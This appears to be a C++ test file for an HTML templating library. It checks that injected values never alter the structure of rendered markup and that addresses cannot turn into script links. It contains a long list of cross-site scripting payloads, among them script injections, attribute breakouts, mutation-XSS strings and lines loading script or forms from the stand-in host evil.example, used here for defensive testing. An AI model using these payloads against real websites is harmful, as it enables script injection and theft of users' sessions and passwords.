// Cross-site scripting: every payload in every place, read back as a browser does. The tags and attributes must stay
// those of the template, and the value must arrive as the text that it is.
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include <sallyport/html.hpp>

#include "html/document.hpp"
#include "html/markup_shape.hpp"

namespace sallyport {
namespace {

using namespace std::string_view_literals;

// After the OWASP XSS filter evasion cheat sheet, the html5sec list and mutation-XSS reports.
constexpr std::string_view payloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--",
    "-->",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "<!doctype html>",
    "<!ENTITY x \"y\">",
    "\"",
    "'",
    "\"\"\"\"''''",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"/><svg/onload=alert(1)>",
    "` onmouseover=alert(1) `",
    " onmouseover=alert(1) ",
    "\nonmouseover=alert(1)\n",
    "/onmouseover=alert(1)/",
    "=alert(1)",
    ">",
    "<",
    "</",
    "<a",
    "</p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</pre></li></ul></td></tr></table></body></html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&lt",
    "&",
    "&&&&",
    "&quot; onmouseover=alert(1)",
    "{}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\n\n\r\n<x",
    "'-alert(1)-'",
    "*/alert(1)/*",
    "expression(alert(1))",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E",    // full-width < >
    "\xE2\x80\xA8<script>\xE2\x80\xA9",  // line and paragraph separators
    "\xE2\x80\xAE>tpircs<",              // right-to-left override
    "\xEF\xBB\xBF<script>",              // byte order mark
};

/// One template for each kind of place.
std::vector<Html> places(std::string_view v) {
  return {
      html<"<p>{}</p>">(v),
      html<"{}">(v),
      html<"<p>a{}b{}c</p>">(v, v),
      html<"<p title=\"{}\">x</p>">(v),
      html<"<p title=\"a {} b\" class=\"{}\" data-x=\"{}\" aria-label=\"{}\">x</p>">(v, v, v, v),
      html<"<input id=\"x-{}\" name=\"{}\" value=\"{}\" placeholder=\"{}\" list=\"{}\" min=\"{}\">">(v, v, v, v, v, v),
      html<"<label for=\"{}\">{}</label>">(v, v),
      html<"<img src=\"/x\" alt=\"{}\" width=\"{}\">">(v, v),
      html<"<a href=\"/x\" download=\"{}\" lang=\"{}\">{}</a>">(v, v, v),
      html<"<textarea rows=\"{}\">{}</textarea><b>x</b>">(v, v),
      html<"<pre>{}</pre>">(v),
      html<"<select><option value=\"{}\">{}</option></select>">(v, v),
      html<"<table><tr><td headers=\"{}\">{}</td></tr></table>">(v, v),
      html<"<ul><li value=\"{}\">{}</li></ul>">(v, v),
      html<"<a href=\"{}\">x</a>">(local_url<"/a/{}/b?c={}#{}">(v, v, v)),
      html<"<img src=\"{}\">">(local_url<"/a/{}.png">(v)),
      html<"<form action=\"{}\"></form>">(local_url<"/{}">(v)),
      html<"<div>{}</div>">(html<"<b title=\"{}\">{}</b>">(v, v)),
      html<"<p>{{{}}}</p>">(v),
  };
}

TEST(Injection, NoPayloadChangesTheShapeOfAnyPlace) {
  const std::vector<Html> harmless = places("x");
  for (const std::string_view payload : payloads) {
    const std::vector<Html> attacked = places(payload);
    for (std::size_t i = 0; i < harmless.size(); ++i) {
      const markup::Shape shape = markup::read_shape(attacked[i].view());
      EXPECT_EQ(shape.skeleton, markup::read_shape(harmless[i].view()).skeleton) << payload << " in place " << i;
      EXPECT_EQ(shape.values.size(), markup::read_shape(harmless[i].view()).values.size()) << payload << " in " << i;
    }
  }
}

TEST(Injection, EveryPayloadArrivesAsTheTextItIs) {
  for (const std::string_view payload : payloads) {
    const markup::Shape shape = markup::read_shape(html<"<p title=\"{}\">{}</p>">(payload, payload).view());
    ASSERT_EQ(shape.values.size(), 2u) << payload;
    EXPECT_EQ(shape.values[0], payload);
    EXPECT_EQ(shape.values[1], payload);
  }
}

TEST(Injection, NoPairOfBytesChangesTheShapeOfAnyPlace) {
  const std::vector<Html> harmless = places("x");
  std::vector<std::string> skeletons;
  skeletons.reserve(harmless.size());
  for (const Html& place : harmless) skeletons.push_back(markup::read_shape(place.view()).skeleton);
  constexpr std::string_view special = "\0\t\n\f\r \"'`<>&/=!-?#;{}[]x\x7f\x80\xBC\xC0\xC2\xE0\xED\xF0\xFF"sv;
  for (const char a : special) {
    for (int b = 0; b < 256; ++b) {
      const std::string payload{a, static_cast<char>(b)};
      const std::vector<Html> attacked = places(payload);
      for (std::size_t i = 0; i < attacked.size(); ++i) {
        ASSERT_EQ(markup::read_shape(attacked[i].view()).skeleton, skeletons[i]) << int{a} << ' ' << b << ' ' << i;
      }
    }
  }
}

TEST(Injection, NoPayloadChangesTheShapeOfADocument) {
  const std::string harmless = markup::render_document(Page{.title = "x", .lang = "x", .description = "x"}, "");
  for (const std::string_view payload : payloads) {
    const Page page{.title = std::string(payload), .lang = std::string(payload), .description = std::string(payload)};
    EXPECT_EQ(markup::read_shape(markup::render_document(page, "")).skeleton, markup::read_shape(harmless).skeleton)
        << payload;
  }
}

/// What a browser makes of the start of an address (WHATWG URL 4.4): leading controls and spaces go, tabs and newlines
/// vanish everywhere, the scheme is folded.
std::string scheme_seen_by_browser(std::string_view url) {
  while (!url.empty() && static_cast<unsigned char>(url[0]) <= 0x20) url.remove_prefix(1);
  std::string scheme;
  for (const char c : url) {
    if (c == '\t' || c == '\n' || c == '\r') continue;
    if (c == ':') return scheme;
    if (c == '/' || c == '?' || c == '#' || c == '\\') return "";
    scheme += c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c;
  }
  return "";
}

TEST(Injection, NoPrefixTurnsALinkIntoScript) {
  for (const std::string_view scheme : {"javascript:alert(1)"sv, "data:text/html,x"sv, "vbscript:x"sv}) {
    for (int c = 0; c < 256; ++c) {
      for (std::size_t at = 0; at < scheme.size(); ++at) {
        std::string text(scheme);
        text.insert(at, 1, static_cast<char>(c));
        const auto url = Url::parse(text);
        if (!url) continue;
        EXPECT_EQ(scheme_seen_by_browser(url->view()), "") << text;
        EXPECT_TRUE(url->view()[0] == '/' || url->view()[0] == '?' || url->view()[0] == '#') << text;
      }
    }
  }
}

TEST(Injection, TheReaderOfTheseTestsSeesAnAttack) {  // else the tests above would prove nothing
  EXPECT_EQ(markup::read_shape("<p title=\"\" onclick=\"x\">").skeleton, "<p title= onclick=>");
  EXPECT_EQ(markup::read_shape("<P\nonclick=x>").skeleton, "<p onclick=>");
  EXPECT_EQ(markup::read_shape("<textarea></b></textarea><i>").skeleton, "<textarea></textarea><i>");
  EXPECT_EQ(markup::read_shape("a<!-- <b> -->").skeleton, "<!>");
}

}  // namespace
}  // namespace sallyport
